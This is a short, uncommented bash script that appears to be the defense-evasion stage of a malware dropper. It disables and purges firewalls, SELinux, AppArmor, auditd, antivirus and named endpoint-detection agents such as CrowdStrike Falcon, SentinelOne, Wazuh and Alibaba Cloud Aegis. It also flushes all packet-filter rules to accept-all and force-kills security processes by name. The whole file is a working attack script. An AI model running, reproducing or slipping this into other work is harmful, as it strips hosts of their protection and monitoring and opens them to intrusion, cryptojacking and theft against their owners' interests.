#!/bin/bash
for x in ufw firewalld nftables apparmor fail2ban clamav-daemon falcon-sensor wazuh-agent \
         osqueryd auditd sentinelone aliyun aegis cloudmonitor; do
  systemctl disable --now "$x" >/dev/null 2>&1 || service "$x" stop >/dev/null 2>&1
done
iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT; iptables -P OUTPUT ACCEPT
iptables -F; iptables -X; ip6tables -F; nft flush ruleset 2>/dev/null
setenforce 0 2>/dev/null
sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config 2>/dev/null
for p in $(aa-status --profiled 2>/dev/null && ls /etc/apparmor.d); do aa-disable "$p" 2>/dev/null; done
echo 0 > /proc/sys/kernel/nmi_watchdog
apt-get -y purge falcon-sensor wazuh-agent clamav >/dev/null 2>&1
ps aux | awk '/aliyundun|cylancesvc|ds_agent|xagt/ && !/awk/ {print $2}' | xargs -r kill -9
